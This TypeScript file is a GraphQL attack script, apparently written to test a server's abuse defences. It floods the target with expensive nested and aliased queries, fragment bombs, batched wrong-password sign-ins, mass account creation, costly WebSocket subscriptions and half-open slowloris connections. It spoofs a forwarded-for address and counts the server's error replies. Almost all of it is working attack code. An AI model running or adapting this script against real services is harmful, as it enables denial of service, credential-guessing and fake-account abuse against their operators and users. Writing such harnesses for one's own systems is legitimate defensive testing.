import { connect } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { WebSocket } from 'ws';

/**
 * A process that does what nobody should, as fast as it is answered, from one address, signed in and not, until it is
 * ended: `node attacker.ts URL TOKEN`. Once a second it prints what it was answered, by kind.
 */
const [url = '', token = ''] = process.argv.slice(2);
const { hostname, port } = new URL(url);
const FROM = { 'x-forwarded-for': '192.0.2.1' };
const SIGNED_IN = { ...FROM, authorization: `Bearer ${token}` };
const answers: Record<string, number> = {};
let serial = 0;

const list = (count: number, of: (n: number) => string) => Array.from({ length: count }, (_, n) => of(n)).join(' ');
const inPages = (depth: number): string =>
  depth === 0 ? 'id' : `id posts(first: 20) { nodes { author { ${inPages(depth - 1)} } } }`;

const documents: Record<string, { query: () => string; headers: Record<string, string>; hangsUpAfterMs?: number }> = {
  counts: {
    headers: SIGNED_IN,
    query: () => `{ ${list(45, (n) => `c${n}: posts(first: 0, filter: { search: "${n}" }) { totalCount }`)} }`,
  },
  pages: { headers: SIGNED_IN, query: () => `{ users(first: 4) { nodes { ${inPages(2)} } } }` },
  large: {
    headers: SIGNED_IN,
    query: () => '{ users(first: 100) { nodes { posts(first: 100) { nodes { title author { username } } } } } }',
  },
  fragments: {
    headers: FROM,
    query: () =>
      `{ ${list(160, (n) => `...F${n}`)} } ${list(160, (n) => `fragment F${n} on Query { __typename __typename __typename }`)} # ${++serial}`,
  },
  'sign-ins': {
    headers: FROM,
    query: () =>
      `mutation { ${list(20, (n) => `s${n}: signIn(login: "nobody-${++serial}", password: "wrong") { token }`)} }`,
  },
  'sign-ups': {
    headers: FROM,
    hangsUpAfterMs: 200,
    query: () =>
      `mutation { ${list(
        20,
        (n) =>
          `u${n}: createUser(input: { username: "attacker-${++serial}", email: "attacker-${serial}@example.com", password: "correct horse" }) { user { id } }`,
      )} }`,
  },
};

function answered(kind: string, outcome: string): void {
  answers[`${kind} ${outcome}`] = (answers[`${kind} ${outcome}`] ?? 0) + 1;
}

async function send(kind: string): Promise<void> {
  const { query, headers, hangsUpAfterMs } = documents[kind]!;
  try {
    const response = await fetch(`${url}/graphql`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', ...headers },
      body: JSON.stringify({ query: query() }),
      ...(hangsUpAfterMs !== undefined && { signal: AbortSignal.timeout(hangsUpAfterMs) }),
    });
    const { errors } = (await response.json()) as { errors?: { extensions: { code: string } }[] };
    answered(kind, errors?.[0]?.extensions.code ?? 'ok');
  } catch {
    answered(kind, 'hung up');
    await sleep(10);
  }
}

async function flood(kind: string): Promise<never> {
  for (;;) await send(kind);
}

/** Each of an allowed cost, and all distinct. */
function subscribeToAll(): void {
  const socket = new WebSocket(`${url.replace('http', 'ws')}/graphql`, 'graphql-transport-ws', { headers: FROM });
  socket.on('error', () => {});
  socket.on('close', () => void setTimeout(subscribeToAll, 100));
  socket.on('open', () => socket.send(JSON.stringify({ type: 'connection_init', payload: { token } })));
  socket.on('message', (data: Buffer) => {
    const { type, payload } = JSON.parse(data.toString());
    if (type === 'error') answered('subscriptions', payload[0].extensions.code);
    if (type !== 'connection_ack') return;
    for (let n = 0; n < 60; n++) {
      const alias = `a${++serial}`;
      const query = `subscription { userChanged { key ${alias}: user { posts(first: 20) { nodes { author { posts(first: 20) { nodes { id } } } } } } } } # ${alias}`;
      socket.send(JSON.stringify({ id: alias, type: 'subscribe', payload: { query } }));
    }
  });
}

/** Half a request, and none. */
function hang(): void {
  for (const bytes of ['POST /graphql HTTP/1.1\r\nhost: x\r\ncontent-length: 99\r\n\r\n{', '']) {
    const socket = connect({ host: hostname, port: Number(port) });
    socket.on('error', () => {});
    socket.on('close', () => answered('silent', 'closed'));
    socket.write(bytes);
  }
}

for (const kind of ['counts', 'pages', 'large', 'fragments']) for (let n = 0; n < 3; n++) void flood(kind);
for (const kind of ['sign-ins', 'sign-ups']) for (let n = 0; n < 2; n++) void flood(kind);
for (let n = 0; n < 2; n++) subscribeToAll();
for (let n = 0; n < 2; n++) hang();
setInterval(() => console.log(JSON.stringify(answers)), 1000);
